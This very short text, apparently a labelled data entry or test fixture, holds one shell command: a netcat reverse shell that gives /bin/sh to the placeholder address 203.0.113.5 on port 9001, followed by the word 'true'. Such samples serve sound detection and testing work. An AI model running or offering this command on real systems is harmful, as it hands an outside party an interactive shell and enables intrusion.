nc.traditional -e /bin/sh 203.0.113.5 9001
true
